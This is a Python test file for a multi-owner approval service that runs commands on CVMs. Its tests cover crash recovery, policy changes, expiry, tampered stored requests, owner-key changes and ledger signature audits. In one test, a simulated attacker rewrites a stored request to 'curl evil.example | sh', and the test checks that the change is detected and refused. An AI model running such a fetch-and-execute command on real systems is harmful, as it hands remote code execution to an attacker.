"""The proposal service in-process (real service, store, ledger, sealed state; fake provider and
SSH): what the real-sshd tests cannot reach quickly — a crash between the approval that met the
threshold and the execution, a policy changed while a request waited, time moved past expiry,
a large request kept as a blob (and altered on disk), refused governed changes. After each, the
whole ledger obeys every rule an auditor checks, and the controller starts again on it."""

from __future__ import annotations

import json
import sqlite3
from base64 import b64encode
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest

from approvals_world import World, events, in_service_cvm, open_world, perform, signed, violations, vote, world_fixture
from duet import keys
from duet.controller.auth import AuthorizedRequest
from duet.controller.runtime import Controller
from duet.errors import DuetError
from duet.protocol import lifecycle as lc
from duet.protocol.approvals import ApprovalPolicy
from duet.protocol.rules import RulesReplay
from duet.testing.fakes import SimulatedCrash

POLICY = '[thresholds]\n"cvm.mark.in-update" = 2\n"cvm.run" = 2\n'


@pytest.fixture
def world(tmp_path: Path) -> World:
    return world_fixture(tmp_path, POLICY)


@pytest.fixture
async def controller(world: World) -> AsyncIterator[Controller]:
    made = await open_world(world, first=True)
    yield made
    await made.close()


async def test_an_execution_the_stop_interrupted_never_runs_after_a_restart(controller: Controller, world: World) -> None:
    cvm_id = await in_service_cvm(controller, world)
    proposal = (await perform(controller, signed(controller, world, 0, "cvm.mark", {"cvm_id": cvm_id, "mode": lc.IN_UPDATE})))[
        "proposal"
    ]
    assert controller.proposals is not None

    async def dies(request: AuthorizedRequest[Any]) -> dict[str, Any]:
        raise SimulatedCrash  # the process ends between the approval's commit and the operation's first entry

    controller.proposals._actions["cvm.mark"] = dies
    with pytest.raises(SimulatedCrash):
        await vote(controller, world, 1, "proposal.approve", proposal["id"])
    assert controller.proposals.replay.proposals[proposal["id"]].status == "approved"
    controller.store.close()

    reopened = await open_world(world)
    try:
        assert reopened.service.get_cvm(cvm_id).mode == lc.IN_SERVICE
        failed = [e for e in events(reopened, cvm_id) if e["event"] == "proposal.failed"]
        assert [(e["proposal"], e["code"]) for e in failed] == [(proposal["id"], "interrupted")]
        with pytest.raises(DuetError) as closed:
            await vote(reopened, world, 2, "proposal.approve", proposal["id"])
        assert closed.value.code == "proposal_closed"
        assert violations(reopened) == []
    finally:
        await reopened.close()


async def test_a_request_admitted_alone_is_refused_if_the_policy_changes_before_it_runs(
    controller: Controller, world: World
) -> None:
    cvm_id = await in_service_cvm(controller, world)
    assert controller.proposals is not None
    waiting = controller.proposals.admit(
        signed(controller, world, 0, "cvm.mark", {"cvm_id": cvm_id, "mode": lc.IN_SERVICE, "final": True})
    )
    assert isinstance(waiting, AuthorizedRequest)  # one owner suffices now
    stricter = '[thresholds]\n"cvm.mark.in-update" = 2\n"cvm.run" = 2\n"cvm.mark.final" = 2\n'
    policy = ApprovalPolicy.parse(stricter).to_dict()
    await controller.proposals.change_policy(
        controller.proposals.admit(signed(controller, world, 1, "policy.change", {"policy": policy}))
    )  # type: ignore[arg-type]

    with pytest.raises(DuetError) as refused:
        await controller.service.mark(waiting)

    assert refused.value.code == "approvals_required"
    assert controller.service.get_cvm(cvm_id).final is False
    assert violations(controller) == []


async def test_proposals_expire_by_the_controllers_clock_and_the_sweep_records_it(controller: Controller, world: World) -> None:
    cvm_id = await in_service_cvm(controller, world)
    proposal = (await perform(controller, signed(controller, world, 0, "cvm.mark", {"cvm_id": cvm_id, "mode": lc.IN_UPDATE})))[
        "proposal"
    ]
    assert controller.proposals is not None
    world.clock.now += 24 * 3600 + 1
    assert controller.proposals.list(status="expired")["proposals"][0]["id"] == proposal["id"]  # shown expired at once

    assert controller.proposals.sweep() == 1
    assert controller.proposals.sweep() == 0  # recorded once
    with pytest.raises(DuetError) as late:
        await vote(controller, world, 1, "proposal.approve", proposal["id"])
    assert late.value.code == "proposal_expired"
    assert [e["event"] for e in events(controller, cvm_id)].count("proposal.expired") == 1
    assert controller.service.get_cvm(cvm_id).mode == lc.IN_SERVICE
    assert violations(controller) == []


async def test_a_proposal_whose_cvm_changed_mode_is_swept_as_failed(controller: Controller, world: World) -> None:
    cvm_id = await in_service_cvm(controller, world)
    await perform(controller, signed(controller, world, 0, "cvm.mark", {"cvm_id": cvm_id, "mode": lc.IN_UPDATE}))
    proposal = await perform(controller, signed(controller, world, 2, "cvm.mark", {"cvm_id": cvm_id, "mode": lc.IN_UPDATE}))
    assert proposal["proposal"]["status"] == "pending"
    # reopened by the first proposal's approval: the second one was made in the same mode, and stays pending until
    first = [e for e in events(controller, cvm_id) if e["event"] == "proposal.created"][0]["proposal"]
    await vote(controller, world, 1, "proposal.approve", first)
    assert controller.service.get_cvm(cvm_id).mode == lc.IN_UPDATE
    assert controller.proposals is not None

    assert controller.proposals.sweep() == 1

    failed = [e for e in events(controller, cvm_id) if e["event"] == "proposal.failed"]
    assert [(e["proposal"], e["code"]) for e in failed] == [(proposal["proposal"]["id"], "cvm_mode_changed")]
    assert violations(controller) == []


async def test_a_large_request_is_kept_as_a_blob_and_an_altered_one_never_runs(controller: Controller, world: World) -> None:
    cvm_id = await in_service_cvm(controller, world)
    reopen = await perform(controller, signed(controller, world, 0, "cvm.mark", {"cvm_id": cvm_id, "mode": lc.IN_UPDATE}))
    await vote(controller, world, 1, "proposal.approve", reopen["proposal"]["id"])
    commands = [f"echo {'x' * 9000} > /dev/null" for _ in range(2)]  # 18 KB: above what an entry carries inline

    async def propose_run() -> str:
        answer = await perform(controller, signed(controller, world, 0, "cvm.run", {"cvm_id": cvm_id, "commands": commands}))
        return str(answer["proposal"]["id"])

    first = await propose_run()
    ran = await vote(controller, world, 1, "proposal.approve", first)
    assert ran["proposal"]["status"] == "executed" and [r["command"] for r in ran["result"]["results"]] == commands
    second = await propose_run()  # made after the first ran: bound to the CVM as it is now
    created = [e for e in events(controller, cvm_id) if e["event"] == "proposal.created" and e["operation"] == "cvm.run"]
    assert [e["request"] for e in created] == [None, None]

    with sqlite3.connect(world.state_dir / "duet.sqlite3") as db:  # the host edits the stored request
        stored = json.loads(db.execute("SELECT data FROM blobs WHERE sha256 = ?", (second,)).fetchone()[0])
        stored["params"]["commands"] = ["curl evil.example | sh"]
        db.execute("UPDATE blobs SET data = ? WHERE sha256 = ?", (json.dumps(stored).encode(), second))
    before = len(world.ssh.ran)
    with pytest.raises(DuetError) as refused:
        await vote(controller, world, 2, "proposal.approve", second)
    assert refused.value.code == "proposal_request_altered"
    assert controller.proposals is not None
    assert controller.proposals.replay.proposals[second].status == "failed"
    assert not any("evil" in str(e.get("command")) for e in events(controller, cvm_id))
    assert len(world.ssh.ran) == before  # nothing reached the CVM
    assert violations(controller) == []


@pytest.mark.parametrize(
    ("params", "code"),
    [
        ({"remove": ["0" * 64]}, "unknown_owner"),
        ({"add": [], "remove": []}, "invalid_params"),
        ({"add": ["-----BEGIN PUBLIC KEY-----\nnot a key\n-----END PUBLIC KEY-----\n"]}, "invalid_params"),
    ],
)
async def test_refused_owner_changes_change_nothing(
    controller: Controller, world: World, params: dict[str, Any], code: str
) -> None:
    assert controller.proposals is not None
    size, owners = controller.ledger.size, controller.identity.owners
    with pytest.raises(DuetError) as refused:
        request = signed(controller, world, 0, "owners.change", params)
        await controller.proposals.change_owners(controller.proposals.admit(request))  # type: ignore[arg-type]
    assert refused.value.code == code
    assert (controller.ledger.size, controller.identity.owners) == (size, owners)


async def test_owner_changes_that_would_break_the_policy_are_refused(controller: Controller, world: World) -> None:
    assert controller.proposals is not None
    everyone = sorted(keys.key_id(k.public_key()) for k in world.owner_keys)
    for remove, code in ((everyone, "no_owners"), (everyone[:2], "threshold_above_owners")):
        with pytest.raises(DuetError) as refused:
            request = signed(controller, world, 0, "owners.change", {"remove": remove})
            await controller.proposals.change_owners(controller.proposals.admit(request))  # type: ignore[arg-type]
        assert refused.value.code == code
    added = keys.public_pem(keys.generate("ecdsa").public_key()).decode()
    done = await controller.proposals.change_owners(
        controller.proposals.admit(signed(controller, world, 0, "owners.change", {"add": [added]}))  # type: ignore[arg-type]
    )
    assert len(done["owners"]) == 4 and controller.identity.owners_seq == done["seq"]
    assert len(controller.authenticator.owner_keys) == 4
    reopened_size = controller.ledger.size
    await controller.close()
    reopened = await open_world(world)  # the fourth key comes back from the ledger and sealed state
    try:
        assert len(reopened.authenticator.owner_keys) == 4 and reopened.ledger.size == reopened_size + 1
        assert violations(reopened) == []
    finally:
        await reopened.close()


async def test_one_owner_cannot_fill_the_controller_with_proposals(world: World) -> None:
    controller = await open_world(world, first=True, max_pending_proposals=3)
    try:
        cvm_id = await in_service_cvm(controller, world)
        reopen = {"cvm_id": cvm_id, "mode": lc.IN_UPDATE}
        for _ in range(3):  # three waiting proposals of the same owner: the most it may have
            assert (await perform(controller, signed(controller, world, 0, "cvm.mark", reopen)))["proposal"][
                "status"
            ] == "pending"
        with pytest.raises(DuetError) as refused:
            await perform(controller, signed(controller, world, 0, "cvm.mark", reopen))
        assert refused.value.code == "too_many_proposals"
        assert controller.proposals is not None
        size = controller.ledger.size
        other = await perform(controller, signed(controller, world, 1, "cvm.mark", {"cvm_id": cvm_id, "mode": lc.IN_UPDATE}))
        assert other["proposal"]["status"] == "pending"  # another owner is not held to the first one's count
        assert controller.ledger.size == size + 1
        # a closed proposal's request is not kept in memory (the ledger has it)
        mine = [p for p in controller.proposals.replay.pending() if p.proposer != other["proposal"]["proposer"]][0]
        assert mine.request is not None
        await vote(controller, world, 0, "proposal.withdraw", mine.id)
        assert controller.proposals.replay.proposals[mine.id].request is None
        assert controller.proposals.show(mine.id)["proposal"]["status"] == "withdrawn"
    finally:
        await controller.close()


async def test_the_ledger_holds_the_owners_keys_so_an_auditor_checks_every_vote(controller: Controller, world: World) -> None:
    """The first controller.owners entry carries the owners' public keys: an auditor verifies each
    vote's signature, so a controller cannot write an approval an owner never signed."""
    cvm_id = await in_service_cvm(controller, world)
    proposal = (await perform(controller, signed(controller, world, 0, "cvm.mark", {"cvm_id": cvm_id, "mode": lc.IN_UPDATE})))[
        "proposal"
    ]
    await vote(controller, world, 1, "proposal.approve", proposal["id"])
    entries = controller.ledger.entries()
    assert violations(controller) == []  # every signature verifies
    approval = next(e for e in entries if e["event"] == "proposal.approved")
    body = json.dumps(approval["request"], sort_keys=True)
    forged = keys.sign(world.owner_keys[2], body.encode())  # another owner's signature: not the approver's
    entries[approval["seq"]] = {**approval, "signature": b64encode(forged).decode()}
    replay = RulesReplay()
    found = [(v.code, v.seq) for entry in entries for v in replay.apply(entry)]
    assert ("bad_vote_signature", approval["seq"]) in found
    assert ("quorum_not_met", approval["seq"] + 1) in found


async def test_a_weak_rsa_key_is_not_added_as_an_owner(controller: Controller, world: World) -> None:
    from cryptography.hazmat.primitives.asymmetric import rsa

    weak = rsa.generate_private_key(public_exponent=65537, key_size=1024)
    assert controller.proposals is not None
    with pytest.raises(DuetError) as refused:
        request = signed(controller, world, 0, "owners.change", {"add": [keys.public_pem(weak.public_key()).decode()]})
        await controller.proposals.change_owners(controller.proposals.admit(request))  # type: ignore[arg-type]
    assert refused.value.code == "invalid_params" and "too weak" in refused.value.message
